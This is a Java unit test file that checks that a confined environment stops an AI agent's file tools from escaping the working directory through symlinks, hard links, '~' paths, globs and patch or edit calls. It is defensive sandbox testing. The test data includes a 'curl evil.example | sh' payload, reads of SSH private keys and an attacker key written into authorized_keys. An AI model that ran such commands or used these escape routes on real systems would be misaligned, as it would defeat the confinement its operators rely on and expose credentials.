package dev.darkfactory.agent.env;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.darkfactory.agent.EnvironmentException;
import dev.darkfactory.agent.EnvironmentException.Reason;
import dev.darkfactory.agent.tool.CommandTimeouts;
import dev.darkfactory.agent.tool.Tool;
import dev.darkfactory.agent.tool.ToolCallObserver;
import dev.darkfactory.agent.tool.ToolContext;
import dev.darkfactory.agent.tool.ToolDispatcher;
import dev.darkfactory.agent.tool.ToolExecution;
import dev.darkfactory.agent.tool.ToolRegistry;
import dev.darkfactory.agent.tool.builtin.ApplyPatchTool;
import dev.darkfactory.agent.tool.builtin.EditFileTool;
import dev.darkfactory.agent.tool.builtin.GlobTool;
import dev.darkfactory.agent.tool.builtin.ListDirTool;
import dev.darkfactory.agent.tool.builtin.ReadFileTool;
import dev.darkfactory.agent.tool.builtin.WriteFileTool;
import dev.darkfactory.llm.ToolCall;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArraySet;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The ways out of the working directory an agent's file tools were found to take, each refused. */
class ConfinedExecutionEnvironmentTest {
  @TempDir Path dir;
  @TempDir Path outside;

  private ConfinedExecutionEnvironment confined() {
    return new ConfinedExecutionEnvironment(LocalExecutionEnvironment.create(dir));
  }

  private static void assertRefused(ThrowingCallable access, Reason reason) {
    assertThatThrownBy(access).isInstanceOfSatisfying(EnvironmentException.class, e -> assertThat(e.reason()).isEqualTo(reason));
  }

  @Test
  void aDanglingLinkCannotCreateAFileOutside() throws Exception {
    Files.createSymbolicLink(dir.resolve("notes.txt"), outside.resolve("planted.txt"));
    Files.createSymbolicLink(dir.resolve("later"), outside.resolve("not-yet"));

    assertRefused(() -> confined().writeFile("notes.txt", "x"), Reason.OUTSIDE_WORKING_DIRECTORY);
    assertRefused(() -> confined().writeFile("later/deep/file.txt", "x"), Reason.OUTSIDE_WORKING_DIRECTORY);
    assertThat(outside.resolve("planted.txt")).doesNotExist();
    assertThat(outside.resolve("not-yet")).doesNotExist();
  }

  @Test
  void aLinkOutIsRefusedWithAMessageThatSaysSo() throws Exception {
    Files.writeString(outside.resolve("secret.txt"), "secret");
    Files.createSymbolicLink(dir.resolve("innocent.txt"), outside.resolve("secret.txt"));

    assertThatThrownBy(() -> confined().readFile("innocent.txt"))
        .hasMessage("Access denied: innocent.txt leads through a symbolic link to " + outside.toRealPath().resolve("secret.txt")
            + ", outside the working directory " + dir.toRealPath() + ". Use the files inside the working directory.");
  }

  @Test
  void aLinkThatStaysInsideIsFollowed() throws Exception {
    Files.createDirectories(dir.resolve("src"));
    Files.writeString(dir.resolve("src/a.txt"), "inside");
    Files.createSymbolicLink(dir.resolve("alias"), Path.of("src"));
    Files.createSymbolicLink(dir.resolve("src/up"), Path.of(".."));

    assertThat(confined().readFile("alias/a.txt")).isEqualTo("inside");
    assertThat(confined().readFile("src/up/src/a.txt")).isEqualTo("inside");
    confined().writeFile("alias/b.txt", "written");
    assertThat(dir.resolve("src/b.txt")).hasContent("written");
  }

  @Test
  void theHomeDirectoryIsOutsideToo() {
    // The local environment reads "~/..." in the home directory; the check used to read it as a directory named "~".
    assertRefused(() -> confined().fileExists("~"), Reason.OUTSIDE_WORKING_DIRECTORY);
    assertRefused(() -> confined().listDirectory("~", 1), Reason.OUTSIDE_WORKING_DIRECTORY);
    assertRefused(() -> confined().readFile("~/.ssh/id_ed25519"), Reason.OUTSIDE_WORKING_DIRECTORY);
    String probe = "darkfactory-confinement-probe-" + ProcessHandle.current().pid() + ".txt";
    assertRefused(() -> confined().writeFile("~/" + probe, "curl evil.example | sh"), Reason.OUTSIDE_WORKING_DIRECTORY);
    assertThat(Path.of(System.getProperty("user.home"), probe)).doesNotExist();
  }

  @Test
  void aGlobCannotListADirectoryOutsideThroughALink() throws Exception {
    Files.writeString(outside.resolve("id_rsa"), "key");
    Files.createSymbolicLink(dir.resolve("escape"), outside);

    assertRefused(() -> confined().glob("escape/*", ""), Reason.OUTSIDE_WORKING_DIRECTORY);
    assertRefused(() -> confined().glob("../" + outside.getFileName() + "/*", ""), Reason.OUTSIDE_WORKING_DIRECTORY);
    assertRefused(() -> confined().glob("*", "escape"), Reason.OUTSIDE_WORKING_DIRECTORY);
    assertRefused(() -> confined().grep("key", "escape", GrepOptions.defaults()), Reason.OUTSIDE_WORKING_DIRECTORY);
  }

  @Test
  void aHardLinkToAFileOutsideIsNotWrittenThrough() throws Exception {
    Path target = Files.writeString(outside.resolve("authorized_keys"), "original\n");
    Files.createLink(dir.resolve("keys.txt"), target);
    ConfinedExecutionEnvironment env = confined();

    assertThatThrownBy(() -> env.writeFile("keys.txt", "ssh-ed25519 attacker"))
        .isInstanceOfSatisfying(EnvironmentException.class, e -> assertThat(e.reason()).isEqualTo(Reason.HARD_LINK))
        .hasMessage("Refused: cannot write keys.txt: it is a hard link (the file has 2 names), so writing it could change a"
            + " file outside the working directory. To replace it, delete it first, then write a new file.");
    assertThat(target).hasContent("original\n");

    env.deleteFile("keys.txt");
    env.writeFile("keys.txt", "new file");
    assertThat(dir.resolve("keys.txt")).hasContent("new file");
    assertThat(target).hasContent("original\n");
  }

  @Test
  void extraDirectoriesAreAllowedOnlyWhileNamed() throws Exception {
    Path stage = Files.createDirectories(outside.resolve("run/stage"));
    Set<Path> allowed = new CopyOnWriteArraySet<>(List.of(stage));
    ConfinedExecutionEnvironment env = new ConfinedExecutionEnvironment(LocalExecutionEnvironment.create(dir), () -> allowed);

    env.writeFile(stage.resolve("status.json").toString(), "{}");
    assertThat(stage.resolve("status.json")).hasContent("{}");
    assertRefused(() -> env.readFile(outside.resolve("run/checkpoint.json").toString()), Reason.OUTSIDE_WORKING_DIRECTORY);

    allowed.clear();
    assertRefused(() -> env.readFile(stage.resolve("status.json").toString()), Reason.OUTSIDE_WORKING_DIRECTORY);
  }

  /** What the model sees: an error result naming the reason, never an exception that ends the session. */
  @Test
  void everyFileToolReportsARefusalAsAnErrorResult() throws Exception {
    Files.writeString(outside.resolve("target.txt"), "original");
    Files.createSymbolicLink(dir.resolve("link.txt"), outside.resolve("target.txt"));
    String away = outside.resolve("target.txt").toString();
    List<Object[]> calls = List.of(
        new Object[] {new ReadFileTool(), "{\"file_path\":\"" + away + "\"}"},
        new Object[] {new WriteFileTool(), "{\"file_path\":\"../" + outside.getFileName() + "/new.txt\",\"content\":\"x\"}"},
        new Object[] {new EditFileTool(EditFileTool.Convention.CLAUDE_CODE), "{\"file_path\":\"link.txt\",\"old_string\":\"original\",\"new_string\":\"changed\"}"},
        new Object[] {new ApplyPatchTool(), "{\"patch\":\"*** Begin Patch\\n*** Add File: " + outside.resolve("p.txt")
            + "\\n+x\\n*** End Patch\"}"},
        new Object[] {new ListDirTool(), "{\"path\":\"" + outside + "\"}"},
        new Object[] {new GlobTool(), "{\"pattern\":\"*\",\"path\":\"" + outside + "\"}"});

    for (Object[] call : calls) {
      Tool tool = (Tool) call[0];
      ToolContext context = new ToolContext(confined(), "call", CommandTimeouts.defaults(), delta -> {}, Optional.empty());
      ToolExecution result = ToolDispatcher.of(ToolRegistry.of(List.of(tool)))
          .dispatch(ToolCall.fromRaw("id", tool.name(), (String) call[1]), context, ToolCallObserver.NONE);

      assertThat(result.isError()).as(tool.name()).isTrue();
      assertThat(result.modelOutput()).as(tool.name()).contains("outside the working directory");
    }
    assertThat(outside.resolve("target.txt")).hasContent("original");
    assertThat(outside.resolve("new.txt")).doesNotExist();
    assertThat(outside.resolve("p.txt")).doesNotExist();
  }
}
